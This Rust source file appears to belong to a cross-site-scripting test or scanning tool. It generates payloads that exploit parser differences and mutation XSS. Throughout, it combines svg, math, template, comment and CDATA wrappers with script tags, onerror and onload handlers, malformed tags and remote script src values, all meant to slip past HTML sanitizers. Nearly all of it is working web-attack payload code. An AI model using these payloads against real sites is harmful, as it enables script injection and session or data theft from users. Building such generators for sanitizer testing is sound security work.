//! Where two parsers disagree: namespaces, raw text, comments, nesting that gets repaired, and what only comes alive
//! when it is parsed a second time (mutation XSS).

use super::{Mark, Payloads, mixed_case};

/// An opening that changes how the rest is read, and its end.
const OUTER: [(&str, &str); 34] = [
    ("<svg>", "</svg>"),
    ("<svg><title>", "</title></svg>"),
    ("<svg><desc>", "</desc></svg>"),
    ("<svg><foreignObject>", "</foreignObject></svg>"),
    ("<svg><style>", "</style></svg>"),
    ("<svg></p><style>", "</style>"),
    ("<math>", "</math>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<math><mi><style>", "</style></mi></math>"),
    ("<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"),
    ("<math><annotation-xml encoding=x><foreignObject>", "</math>"),
    ("<math><mtext><table><mglyph><style>", "</style></math>"),
    ("<math><mtext><option><FAKE><svg><title>", "</title></svg>"),
    ("<form><math><mtext></form><form><mglyph><svg><mtext><style>", "</style>"),
    ("<template>", "</template>"),
    ("<template shadowrootmode=open>", "</template>"),
    ("<noscript>", "</noscript>"),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<style>", "</style>"),
    ("<title>", "</title>"),
    ("<textarea>", "</textarea>"),
    ("<xmp>", "</xmp>"),
    ("<iframe>", "</iframe>"),
    ("<plaintext>", ""),
    ("<listing>", "</listing>"),
    ("<select><option>", "</option></select>"),
    ("<table>", "</table>"),
    ("<table><caption><svg>", "</table>"),
    ("<ruby><rtc><select><svg>", "</ruby>"),
    ("<!--", "-->"),
    ("<![CDATA[", "]]>"),
    ("<?xml ", "?>"),
    ("<!DOCTYPE x [", "]>"),
];

/// What is put inside; `end` is the end of the surrounding.
const INNER: [fn(end: &str, mark: &Mark<'_>) -> String; 12] = [
    |_, mark| mark.image(),
    |_, mark| format!("<script>{}</script>", mark.run()),
    |end, mark| format!("<a title=\"{end}{}\">", mark.image()),
    |end, mark| format!("<!--{end}{}-->", mark.image()),
    |end, mark| format!("<style><!--</style><a id=\"--!>{end}{}\">", mark.image()),
    |end, mark| format!("<p id='{end}<svg onload={}>'>", mark.run()),
    |end, mark| format!("{}{}", mixed_case(end), mark.image()),
    |end, mark| format!("{}{}", end.replace("</", "</ ").replace('>', "\t>"), mark.image()),
    |_, mark| format!("<![CDATA[><{}]]>", &mark.image()[1..]),
    |end, mark| format!("<mglyph><malignmark><table><style>{end}<!--</style>{}", mark.image()),
    |end, mark| format!("&lt;/x&gt;&lt;img src=x:x onerror={}&gt;{end}<br>", mark.run()),
    |end, mark| format!("<img alt=\"<x\" title=\"/>{end}<img src=x:x onerror={}//\">", mark.run()),
];

pub(super) fn add(payloads: &mut Payloads) {
    for (o, (open, end)) in OUTER.into_iter().enumerate() {
        for (_, inner) in INNER.into_iter().enumerate().filter(|(i, _)| (o + i) % 3 != 0) {
            payloads.add("parser", |mark| format!("{open}{}{end}", inner(end, mark)));
        }
    }
    for make in REPAIRED {
        payloads.add("parser", make);
    }
    for depth in [2, 9, 60, 300, 600] {
        payloads.add("parser", |mark| format!("{}{}", "<div><b>".repeat(depth), mark.image()));
        payloads.add("parser", |mark| format!("{}<svg>{}", "<form><p>".repeat(depth), mark.image()));
    }
}

const REPAIRED: [fn(&Mark<'_>) -> String; 26] = [
    |mark| format!("<scr<script>ipt>{}</scr</script>ipt>", mark.run()),
    |mark| format!("<<script>{}//<</script>", mark.run()),
    |mark| format!("<script/x>{}</script/x>", mark.run()),
    |mark| format!("<script\u{c}src=data:,{}></script", mark.run()),
    |mark| format!("<script>/*<script>*/{}</script></script>", mark.run()),
    |mark| format!("</script><script >{}</script\n>", mark.run()),
    |mark| format!("<script type=module>{}</script>", mark.run_anywhere()),
    |mark| format!("<script src=\"{}\"></script>", mark.url("js")),
    |mark| format!("<SCRIPT SRC=//{}></SCRIPT>", mark.url("js").trim_start_matches("http://")),
    |mark| format!("<script async defer nomodule src={}>", mark.url("js")),
    |mark| format!("<script type=importmap>{{\"imports\":{{\"x\":\"{}\"}}}}</script>", mark.url("js")),
    |mark| format!("<!-- --!>{} -->", mark.image()),
    |mark| format!("<!-->{}-->", mark.image()),
    |mark| format!("<!--->{}-->", mark.image()),
    |mark| format!("<!-- -- -->{}<!-->", mark.image()),
    |mark| format!("<!--[if gte IE 4]><script>{}</script><![endif]-->", mark.run()),
    |mark| format!("</{}>", &mark.image()[1..mark.image().len() - 1]),
    |mark| format!("<? {} ?>", mark.image()),
    |mark| format!("<!ELEMENT x><x>{}", mark.image()),
    |mark| format!("<table><tr><td><form><table><form>{}", mark.image()),
    |mark| format!("<table><a href=/><img src=x:x onerror={}></table>", mark.run()),
    |mark| format!("<p><table><p title=\"</p>{}\"></table>", mark.image()),
    |mark| format!("<a><table><a title='{}'>x</a></table></a>", mark.image()),
    |mark| format!("<b><p></b>{}</p><i></b></i>", mark.image()),
    |mark| format!("<img alt=\"``onerror={}\" src=x:x>", mark.run()),
    |mark| format!("<listing>&lt;img src=x:x onerror={}&gt;</listing>", mark.run()),
];
